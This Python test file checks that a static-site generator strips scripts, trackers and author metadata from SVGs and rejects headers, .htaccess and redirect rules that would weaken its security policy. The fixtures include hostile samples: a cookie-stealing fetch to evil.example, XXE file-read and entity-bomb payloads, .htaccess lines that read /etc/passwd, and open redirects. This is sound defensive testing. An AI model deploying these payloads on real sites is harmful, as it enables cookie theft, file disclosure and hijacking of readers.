"""SVG drawings are published without code, outside references, embedded pictures or their author's
traces; a file that cannot be read safely is refused. A site's own `_headers` or `.htaccess` cannot loosen
the policy."""

from __future__ import annotations

import base64
import time
from pathlib import Path

import pytest
from lxml import etree
from PIL import Image

from samizdat.assets.svg import SVG_NS, clean_svg, clean_svg_report
from samizdat.errors import ContentError
from tests.conftest import BUNDLED_SITE
from tests.hostile import SECRET, Sandbox, assert_refused, sandbox  # noqa: F401
from tests.imagefiles import jpeg_with_everything

OPEN = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'viewBox="0 0 10 10">')
INKSCAPE_NS = ('xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
               'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
               'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" '
               'xmlns:cc="http://creativecommons.org/ns#"')
RECT = '<rect width="10" height="10" fill="#0a58ca"/>'


def exif_jpeg() -> str:
    return base64.b64encode(jpeg_with_everything(Image.new("RGB", (16, 16), "red"))).decode()


def svg(body: str, attrs: str = "") -> bytes:
    return f"{OPEN[:-1]} {attrs}>{body}{RECT}</svg>".encode()


# name → (the SVG, strings the published file must not hold)
HOSTILE_SVGS: dict[str, tuple[bytes, tuple[str, ...]]] = {
    "script": (svg("<script>fetch('https://evil.example/?'+document.cookie)</script>"), ("<script", "evil")),
    "script in CDATA, xlink": (svg('<script xlink:href="https://evil.example/x.js"><![CDATA[alert(1)]]></script>'),
                               ("script", "alert")),
    "onload": (svg("", 'onload="alert(1)"'), ("onload", "alert")),
    "event handler on a shape": (svg('<circle r="3" onmouseover="alert(1)"/>'), ("onmouseover", "alert")),
    "foreignObject": (svg('<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">'
                          '<iframe src="https://evil.example/"></iframe></div></foreignObject>'),
                      ("foreignObject", "iframe", "evil")),
    "external href": (svg('<a href="https://evil.example/"><text>x</text></a>'
                          '<use xlink:href="https://evil.example/sprite.svg#a"/>'), ("evil.example",)),
    "javascript: link": (svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'), ("javascript",)),
    "animation that sets a link": (svg('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
                                   ("javascript", "<set")),
    "css import and remote url": (svg('<style>@import url(https://evil.example/a.css); '
                                      'rect { fill: url(https://evil.example/p.png) }</style>'
                                      '<rect style="fill:url(\'https://evil.example/q.png\')" width="1" height="1"/>'),
                                  ("evil.example", "@import")),
    "embedded JPEG with EXIF GPS": (svg(f'<image width="10" height="10" href="data:image/jpeg;base64,{exif_jpeg()}"/>'),
                                    ("data:image", exif_jpeg()[:40], "<image")),
    "remote picture": (svg('<image width="10" height="10" xlink:href="https://evil.example/track.png"/>'),
                       ("evil.example",)),
    "inkscape metadata and a home folder": (
        svg('<metadata><rdf:RDF><cc:Work><dc:creator><cc:Agent><dc:title>Jane Activist jane@example.org'
            '</dc:title></cc:Agent></dc:creator></cc:Work></rdf:RDF></metadata>'
            '<sodipodi:namedview id="base" inkscape:current-layer="layer1"/>'
            '<!-- drawn by Jane at home -->'
            '<g inkscape:label="Jane\'s layer" inkscape:groupmode="layer" id="layer1"/>',
            f'{INKSCAPE_NS} inkscape:export-filename="/home/jane/Desktop/flyer.png" '
            'sodipodi:docname="flyer-jane.svg" inkscape:version="1.3"'),
        ("jane", "Jane", "/home/", "inkscape", "sodipodi", "rdf", "dc:", "drawn by")),
}


@pytest.mark.parametrize("source, forbidden", HOSTILE_SVGS.values(), ids=HOSTILE_SVGS.keys())
def test_svg_is_published_clean(sandbox: Sandbox, capsys, source: bytes, forbidden: tuple[str, ...]) -> None:  # noqa: F811
    sandbox.write({"assets/drawing.svg": source, "static/logo.svg": source, "content/en/pic.svg": source})
    outcome = sandbox.build(capsys)
    assert outcome.code == 0, outcome.err
    # The volunteer is told: a warning when the drawing may now look or act differently.
    changes_behaviour = b"metadata" not in source
    assert ("assets/drawing.svg: warning [svg-cleaned]: published without:" in outcome.err) is changes_behaviour
    for rel in ("assets/drawing.svg", "logo.svg", "en/pic.svg"):
        published = (sandbox.out / rel).read_bytes()
        for needle in forbidden:
            assert needle.encode() not in published, (rel, needle, published[:400])
        root = etree.fromstring(published)
        assert root.tag == f"{{{SVG_NS}}}svg"
        assert root.findall(f"{{{SVG_NS}}}rect")[-1].get("fill") == "#0a58ca"  # the drawing itself stays
    sandbox.assert_untouched()


LAUGHS = "".join(f'<!ENTITY {n} "{("&" + p + ";") * 10}">' for p, n in zip("abcdefgh", "bcdefghi", strict=True))
BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">' + LAUGHS
                  + f']>{OPEN}<text>&i;</text></svg>')
REFUSED_SVGS = {
    "billion laughs": BILLION_LAUGHS,
    "entity reading a file": ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s SYSTEM "file://{secret}">]>'
                              f"{OPEN}<text>&s;</text></svg>"),
    "entity from the network": ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s SYSTEM "https://evil.example/x">]>'
                                f"{OPEN}<text>&s;</text></svg>"),
    "harmless-looking entity": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY ns "x">]>{OPEN}<text>&ns;</text></svg>',
    "not XML": f"{OPEN}<rect></svg>",
    "HTML posing as SVG": "<html><script>alert(1)</script></html>",
    "no SVG namespace": "<svg><script>alert(1)</script></svg>",
}


@pytest.mark.parametrize("text", REFUSED_SVGS.values(), ids=REFUSED_SVGS.keys())
def test_an_svg_that_cannot_be_read_safely_is_refused(sandbox: Sandbox, capsys, text: str) -> None:  # noqa: F811
    sandbox.write({"assets/bad.svg": text.replace("{secret}", str(sandbox.outside / "secret.txt"))})
    started = time.monotonic()
    outcome = sandbox.build(capsys)
    assert time.monotonic() - started < 20
    assert_refused(outcome, "assets/bad.svg")
    assert "hint:" in outcome.err and SECRET not in outcome.err
    sandbox.assert_untouched()


@pytest.mark.parametrize("path", sorted(BUNDLED_SITE.glob("assets/**/*.svg")) + sorted(
    (Path(__file__).parents[1] / "samizdat/themes/default/static").glob("*.svg")), ids=lambda p: p.name)
def test_the_sites_own_drawings_survive_cleaning_unchanged(path: Path) -> None:
    """Same elements, same attributes, same text: the flags and icons look as they did (here, byte for byte)."""
    assert clean_svg(path.read_bytes(), path) == path.read_bytes()
    assert clean_svg_report(path.read_bytes(), path).removed == ()  # so no finding either
    before, after = etree.fromstring(path.read_bytes()), etree.fromstring(clean_svg(path.read_bytes(), path))
    assert [(e.tag, dict(e.attrib), (e.text or "").strip()) for e in before.iter()] == [
        (e.tag, dict(e.attrib), (e.text or "").strip()) for e in after.iter()]


def test_a_large_drawing_loses_its_author_and_keeps_its_shapes() -> None:
    shapes = "".join(f'<path d="M{i % 97} {i % 89}h1v1h-1z" fill="#123456"/>' for i in range(125000))
    author = "<metadata>" + "<dc:creator>Jane Activist jane@example.org</dc:creator>" * 2000 + "</metadata>"
    source = svg(author + shapes, INKSCAPE_NS + ' inkscape:export-filename="/home/jane/x.png"')
    assert len(source) > 5_000_000  # the 5 MB drawing of the report
    cleaned = clean_svg(source, Path("big.svg"))
    assert b"jane" not in cleaned.lower() and b"/home/" not in cleaned
    assert cleaned.count(b"<path ") == 125000


def test_clean_svg_names_the_file_and_line_of_a_syntax_error() -> None:
    with pytest.raises(ContentError) as caught:
        clean_svg(f"{OPEN}\n<rect>\n</svg>".encode(), Path("x.svg"))
    assert caught.value.location is not None and caught.value.location.line == 3


HEADERS = {
    "drops the CSP": ("/*\n  ! Content-Security-Policy\n", 2),
    "replaces the CSP": ("/*\n  Content-Security-Policy: script-src *\n", 2),
    "allows framing": ("/en/*\n  X-Frame-Options: ALLOWALL\n", 2),
    "report-only policy": ("/*\n  Cache-Control: max-age=60\n  Content-Security-Policy-Report-Only: x\n", 3),
    "opens to other sites": ("/assets/*\n  Access-Control-Allow-Origin: *\n", 2),
    "preloads a tracker": ("/*\n  Link: <https://tracker.example/p.js>; rel=preload\n", 2),
    "redirects by header": ("/\n  Refresh: 0; url=https://evil.example/\n", 2),
    "fake onion address": ("/*\n  Onion-Location: http://fake.onion/\n", 2),
    # Hosts trim every line before reading it: indentation does not make a header line.
    "drops the CSP, not indented": ("/*\n! Content-Security-Policy\n", 2),
    "drops framing, no space": ("/en/*\n  Cache-Control: max-age=60\n!X-Frame-Options\n", 3),
    "replaces the CSP, not indented": ("/*\nContent-Security-Policy: default-src *\n", 2),
    "text served as a page": ("/note.txt\nContent-Type: text/html; charset=utf-8\n", 2),
    "under a path with its host": ("https://example.org/*\nX-Frame-Options: ALLOWALL\n", 2),
    "before any path (joins the policy's /*)": ("Content-Security-Policy: default-src *\n/en/*\n  Vary: Accept\n", 1),
    "a header that looks like an address": ("/*\nContent-Security-Policy://evil.example\n", 2),
    # Hosts end a line at "\n" only and JavaScript's trim() takes these away: the removal is line 2 to them.
    "after a line separator": ("/*\n\u2028! Content-Security-Policy\n", 2),
    "after a byte-order mark": ("/*\n\ufeff! Content-Security-Policy\n", 2),
    # max-age=0 tells browsers to forget to keep the site on HTTPS
    "forgets HTTPS": ("/*\n  Strict-Transport-Security: max-age=0\n", 2),
    "keeps HTTPS an hour": ("/*\n  Cache-Control: max-age=60\n  Strict-Transport-Security: max-age=3600\n", 3),
}


@pytest.mark.parametrize("text, line", HEADERS.values(), ids=HEADERS.keys())
def test_a_sites_headers_cannot_loosen_the_policy(sandbox: Sandbox, capsys, text: str, line: int) -> None:  # noqa: F811
    sandbox.write({"static/_headers": text})
    assert_refused(sandbox.build(capsys), "static/_headers", line)
    outcome = sandbox.run(capsys, "check", sandbox.site)
    assert "static/_headers" in outcome.out and "[unsafe-header]" in outcome.out
    sandbox.assert_untouched()


def test_every_line_of_a_sites_headers_is_read_as_the_hosts_read_it(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    """Cloudflare trims each line first: unindented, these drop the CSP and the framing rule for every page
    and serve a text file as HTML. Each such line is named; the path lines are not."""
    sandbox.write({"static/_headers": "/*\n! Content-Security-Policy\n! X-Frame-Options\n/note.txt\n"
                                      "Content-Type: text/html; charset=utf-8\n"})
    assert_refused(sandbox.build(capsys), "static/_headers", 2)
    assert not sandbox.out.exists()
    listed = sandbox.run(capsys, "check", sandbox.site).out
    named = {line for line in range(1, 6) if f"static/_headers:{line}:" in listed}
    assert named == {2, 3, 5}, listed
    assert "'Content-Type': a file served as another type" in listed
    sandbox.assert_untouched()


HARMLESS_HEADERS = ("# our caching\n/assets/*\n  Cache-Control: public, max-age=31536000\n"
                    "/en/private/*\n  X-Robots-Tag: noindex\n")


@pytest.mark.parametrize("own", [
    HARMLESS_HEADERS,
    # as the hosts also take them: headers not indented, a path with its host, comments anywhere, Windows line
    # ends, a byte-order mark (left out: after the policy's lines it would not be at the start of the file)
    "\ufeff/assets/*\r\nCache-Control: public, max-age=31536000\r\n\r\n"
    "https://example.org/en/private/*\r\n\t# not for search engines\r\nX-Robots-Tag: noindex\r\n",
], ids=["indented", "as hosts also read it"])
def test_a_sites_harmless_headers_follow_the_policy(sandbox: Sandbox, capsys, own: str) -> None:  # noqa: F811
    sandbox.write({"static/_headers": own.encode()})
    assert sandbox.build(capsys).code == 0
    published = (sandbox.out / "_headers").read_bytes().decode()
    policy_at = published.index("Content-Security-Policy: default-src 'none'")
    assert published.index(own.removeprefix("\ufeff")) > policy_at  # every line, as written, after the policy
    assert "Cache-Control: public, max-age=31536000" in published and "X-Robots-Tag: noindex" in published
    assert "X-Frame-Options: DENY" in published and "\ufeff" not in published
    assert "[unsafe-header]" not in sandbox.run(capsys, "check", sandbox.site).out
    sandbox.assert_untouched()


@pytest.mark.parametrize("rel", ["static/samizdat-headers.conf", "static/.htaccess"])
def test_server_config_files_cannot_replace_the_policy(sandbox: Sandbox, capsys, rel: str) -> None:  # noqa: F811
    sandbox.write({rel: "Header unset Content-Security-Policy\n"})
    assert_refused(sandbox.build(capsys), rel, 1 if rel.endswith(".htaccess") else None)
    assert not sandbox.out.exists()


# A site's .htaccess (Apache obeys every line): each line that could loosen the policy, run code on the
# server or send readers away → the line the error names.
HTACCESS = {
    "removes the CSP": ("Header unset Content-Security-Policy\n", 1),
    "removes it, in other case": ("# tidy\nheader UNSET content-security-policy\n", 2),
    "replaces the CSP": ('ExpiresActive On\nHeader always set Content-Security-Policy "default-src *"\n', 2),
    "report-only CSP": ('Header set Content-Security-Policy-Report-Only "default-src *"\n', 1),
    "frames allowed, inside a wrapper": ("<IfModule mod_headers.c>\n  Header set X-Frame-Options SAMEORIGIN\n"
                                         "</IfModule>\n", 2),
    "leaks the address": ("Header set Referrer-Policy unsafe-url\n", 1),
    "camera back on": ('Header append Permissions-Policy "camera=(self)"\n', 1),
    "sniffing back on": ('Header merge X-Content-Type-Options ""\n', 1),
    "cross-origin opener": ("Header always set Cross-Origin-Opener-Policy unsafe-none\n", 1),
    "edits the CSP": ('Header edit Content-Security-Policy "\'none\'" "*"\n', 1),
    "preloads a tracker": ('Header set Link "<https://tracker.example/p.js>; rel=preload"\n', 1),
    "request header": ("RequestHeader unset Cookie\n", 1),
    "runs text as CGI": ("AddHandler cgi-script .txt\n", 1),
    "server status page": ("<Files status>\nSetHandler server-status\n</Files>\n", 2),
    "action": ("Action php-script /cgi-bin/php\n", 1),
    "PHP by type": ("AddType application/x-httpd-php .html\n", 1),
    "text served as HTML": ("AddType text/html .txt\n", 1),
    "PHP setting": ("php_value auto_prepend_file /etc/passwd\n", 1),
    "PHP engine": ("php_flag engine on\n", 1),
    "CGI on": ("Options -Indexes +ExecCGI\n", 1),
    "server-side includes": ("Options Includes\n", 1),
    "redirect away": ("Redirect 301 /old /en/\nRedirect 301 / https://evil.example/\n", 2),
    "redirect protocol-relative": ("RedirectMatch ^/(.*) //evil.example/$1\n", 1),
    "rewrite proxy": ("ExpiresActive On\nRewriteRule ^(.*)$ https://evil.example/$1 [P]\n", 2),
    "rewrite engine": ("RewriteEngine On\n", 1),
    "password file": ("AuthType Basic\nAuthUserFile /etc/passwd\nRequire valid-user\n", 1),
    "require": ("Require all denied\n", 1),
    "error page elsewhere": ("ErrorDocument 404 https://evil.example/track\n", 1),
    "error page with markup": ('ErrorDocument 404 "<script>alert(1)</script>"\n', 1),
    # Apache sends a value with a space as the page itself (text/html), however it starts: a refresh in it
    # sends every reader of a missing page away, and the policy does not stop a meta refresh.
    "error page as a message": ('ErrorDocument 404 "/ <meta http-equiv=refresh content=0;url=https://evil.example/>"\n',
                                1),
    "error page message, single quotes": ("ErrorDocument 404 /404.html\nErrorDocument 403 "
                                          "'/ <meta http-equiv=refresh content=0;url=//evil.example/>'\n", 2),
    "error page filled in by the server": ("ErrorDocument 404 /%{file:/etc/passwd}\n", 1),
    "header read from the server's files": ('Header set X-Robots-Tag "expr=%{file:/etc/passwd}"\n', 1),
    "header asks about a file": ('Header always set X-Robots-Tag noindex "expr=file(\'/home/site/.env\') =~ /^A/"\n',
                                 1),
    "header echoes the request": ('Header set Cache-Control "%{Cookie}i"\n', 1),
    # Apache ends a line at "\n" only and splits words at a vertical tab: one line with three values to it
    # (a server error on every page), two lines to Python's splitlines().
    "vertical tab inside a line": ("ErrorDocument 404 /404.html\x0b# x\n", 1),
    "another charset": ("AddDefaultCharset ISO-2022-JP\n", 1),
    "PHP index": ("DirectoryIndex index.php\n", 1),
    "directory section": ("<Directory />\nOptions -Indexes\n</Directory>\n", 1),
    "expression section": ('<If "true">\n</If>\n', 1),
    "continued line": ('Header set Cache-Control "max-age=60" \\\n  "x"\n', 1),
    "unclosed quote": ('Header set Cache-Control "max-age=60\n', 1),
    "section left open": ("<IfModule mod_expires.c>\nExpiresActive On\n", 2),
    "section never opened": ("ExpiresActive On\n</IfModule>\n", 2),
    "forgets HTTPS": ('Header always set Strict-Transport-Security "max-age=0"\n', 1),
}


@pytest.mark.parametrize("text, line", HTACCESS.values(), ids=HTACCESS.keys())
def test_a_sites_htaccess_cannot_loosen_the_policy(sandbox: Sandbox, capsys, text: str, line: int) -> None:  # noqa: F811
    sandbox.write({"static/.htaccess": text})
    assert_refused(sandbox.build(capsys), "static/.htaccess", line)
    assert not sandbox.out.exists()
    outcome = sandbox.run(capsys, "check", sandbox.site)
    assert f"static/.htaccess:{line}" in outcome.out and "[unsafe-header]" in outcome.out
    sandbox.assert_untouched()


HARMLESS_HTACCESS = """# our server
<IfModule mod_expires.c>
  ExpiresActive On
  ExpiresByType image/webp "access plus 1 year"
  ExpiresDefault "access plus 1 hour"
</IfModule>
<FilesMatch "\\.(webp|css)$">
  Header set Cache-Control "public, max-age=31536000"
</FilesMatch>
ErrorDocument 404 /404.html
ErrorDocument 403 /en/403.html?from=server
Redirect 301 /old-news /en/news/
RedirectMatch 301 ^/old/(.*)$ /en/$1
Redirect gone /removed
AddType application/manifest+json .webmanifest
AddCharset utf-8 .txt
AddDefaultCharset utf-8
DirectoryIndex index.html
Options -Indexes -MultiViews
Header always append Vary Accept-Encoding

Header set X-Robots-Tag noindex
Header always set Strict-Transport-Security "max-age=63072000; includeSubDomains"
"""


def test_a_sites_harmless_htaccess_follows_the_policy(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    sandbox.write({"static/.htaccess": HARMLESS_HTACCESS})
    assert sandbox.build(capsys).code == 0
    published = (sandbox.out / ".htaccess").read_text(encoding="utf-8")
    generated_end = published.index("</IfModule>")
    assert published.index("Header always set Content-Security-Policy \"default-src 'none'") < generated_end
    assert published.index(HARMLESS_HTACCESS) > generated_end  # every line, as written, after the policy
    assert published.startswith("# Written by samizdat build")
    assert "[unsafe-header]" not in sandbox.run(capsys, "check", sandbox.site).out
    sandbox.assert_untouched()


def test_a_sites_htaccess_saved_on_windows_follows_the_policy(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    """A byte-order mark and CRLF line ends, as some editors save: kept, the mark left out (after the
    policy's lines Apache would read it as part of a directive's name and fail on every page)."""
    windows = HARMLESS_HTACCESS.replace("\n", "\r\n")
    sandbox.write({"static/.htaccess": ("\ufeff" + windows).encode()})
    assert sandbox.build(capsys).code == 0
    published = (sandbox.out / ".htaccess").read_bytes().decode()
    assert windows in published and "\ufeff" not in published
    sandbox.assert_untouched()


@pytest.mark.parametrize("rel, text, line", [
    ("static/_redirects", "/old /en/ 301\n/*  https://evil.example/:splat 302\n", 2),
    ("static/_redirects", "# moved\n/en/join //evil.example/join 301\n", 2),
    ("static/_redirects", "/old /en/ 301\n/join /\\evil.example/join 302\n", 2),  # "/\\host" is "//host" to a browser
    ("static/_redirects", "/old id=:id https://evil.example/ 301\n", 1),  # Netlify: query conditions come first
    ("static/_redirects", "/old\u2028https://evil.example/ 301\n", 1),  # one line to the hosts
    ("static/_redirects", "/old\ufeffhttps://evil.example/ 301\n", 1),  # a space to JavaScript's split(/\s+/)
    ("static/_redirects", "/old http://[evil.example 301\n", 1),  # no address to Python, maybe one to a host
    # /blog//evil.example: the splat is "/evil.example", the target "//evil.example"
    ("static/_redirects", "/old /en/ 301\n/blog/*  /:splat 301\n", 2),
    ("static/_redirects", "/blog/* :splat 302\n", 1),
    ("static/_redirects", "/archive/:year/*  /:year/:splat 301\n", 1),  # /archive//… leaves :year empty
    ("static/_worker.js", "export default { fetch(request) { return fetch(request) } }\n", None),
    ("static/_worker.js/index.js", "export default {}\n", None),
    ("static/_routes.json", '{"version": 1, "include": ["/*"]}\n', None),
])
def test_host_instructions_cannot_send_readers_away_or_run_code(sandbox: Sandbox, capsys, rel: str, text: str,  # noqa: F811
                                                                  line: int | None) -> None:
    sandbox.write({rel: text})
    outcome = sandbox.build(capsys)
    assert_refused(outcome, rel, line)
    assert not sandbox.out.exists()
    sandbox.assert_untouched()


def test_a_redirect_to_what_the_request_holds_says_how_to_keep_it(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    sandbox.write({"static/_redirects": "/blog/* /:splat 301\n"})
    outcome = sandbox.build(capsys)
    assert_refused(outcome, "static/_redirects", 1)
    assert "/:splat of /blog//evil.example is //evil.example" in outcome.err
    assert "start the target with a folder of the site (/news/:splat)" in outcome.err


def test_a_redirect_through_a_backslash_is_named_for_what_it_is(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    sandbox.write({"static/_redirects": "/old /\\evil.example/ 301\n"})
    outcome = sandbox.build(capsys)
    assert_refused(outcome, "static/_redirects", 1)
    assert "a browser reads as another site" in outcome.err


def test_redirects_within_the_site_are_kept(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    rules = ("# moved, see https://old.example/\n/old-news /en/news/ 301 # was https://old.example/news\n"
             "https://example.org/x /en/ 301\n/store id=:id /en/shop/:id 301\n/ /en/ 302 Language=en\n"
             "/blog/* /en/news/:splat 301\n/archive/:year/* https://example.org/en/:year/:splat 301\n"
             "/join https://example.org/en/join/ 301\n")
    sandbox.write({"static/_redirects": rules})
    assert sandbox.build(capsys).code == 0
    assert (sandbox.out / "_redirects").read_text(encoding="utf-8") == rules


def test_check_notes_what_an_editor_left_in_a_drawing(sandbox: Sandbox, capsys) -> None:  # noqa: F811
    source, _ = HOSTILE_SVGS["inkscape metadata and a home folder"]
    sandbox.write({"assets/flyer.svg": source})
    outcome = sandbox.run(capsys, "check", sandbox.site)
    assert "assets/flyer.svg: info [svg-metadata]: published without: " in outcome.out
    for what in ("comments", "metadata (author, licence)", "editor data (Inkscape, Sodipodi…)"):
        assert what in outcome.out


def test_a_drawing_is_cleaned_again_only_when_its_bytes_or_its_kept_result_change(
        sandbox: Sandbox, capsys, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    """The build's results keep a cleaned drawing by the hash of its bytes (the theme's icon is on every
    build): the next build publishes the same bytes and tells the same warning without cleaning it again;
    a changed drawing, another lxml, or a kept result whose file no longer hashes to its name, is cleaned
    again."""
    import samizdat.assets.svg as svg_module
    from samizdat.assets import publish
    from samizdat.products import folder_for

    cleanings: list[str] = []
    real = svg_module.clean_svg_report

    def counting(data: bytes, source: Path):  # type: ignore[no-untyped-def]
        cleanings.append(source.name)
        return real(data, source)

    monkeypatch.setattr(svg_module, "clean_svg_report", counting)
    source, _ = HOSTILE_SVGS["script"]
    sandbox.write({"assets/drawing.svg": source})
    page = sandbox.site / "content/en/index.md"

    def build_after_an_edit(text: str) -> tuple[bytes, str]:
        page.write_text(f"---\ntitle: Home\n---\n\n{text}\n", encoding="utf-8")
        cleanings.clear()
        outcome = sandbox.build(capsys)
        assert outcome.code == 0, outcome.err
        assert "assets/drawing.svg: warning [svg-cleaned]: published without: scripts" in outcome.err
        published = (sandbox.out / "assets/drawing.svg").read_bytes()
        assert b"<script" not in published and b"evil" not in published
        return published, outcome.err

    first, _ = build_after_an_edit("First.")
    assert "drawing.svg" in cleanings
    again, _ = build_after_an_edit("Second.")
    assert cleanings == [] and again == first  # the theme's icon and the drawing, both from the results

    changed = source.replace(b"#0a58ca", b"#b02a37")
    (sandbox.site / "assets/drawing.svg").write_bytes(changed)
    recoloured, _ = build_after_an_edit("Third.")
    assert cleanings == ["drawing.svg"] and b"#b02a37" in recoloured

    monkeypatch.setattr(publish, "_svg_cleaner", lambda: "lxml 0.0-another")  # lxml upgraded since
    again, _ = build_after_an_edit("After an upgrade.")
    assert "drawing.svg" in cleanings and again == recoloured

    kept = [path for path in folder_for(sandbox.site).iterdir() if path.read_bytes() == recoloured]
    assert len(kept) == 1
    kept[0].write_bytes(changed)  # the kept result's file, now the drawing with its script
    mended, _ = build_after_an_edit("Fourth.")
    assert cleanings == ["drawing.svg"] and mended == recoloured
    sandbox.assert_untouched()
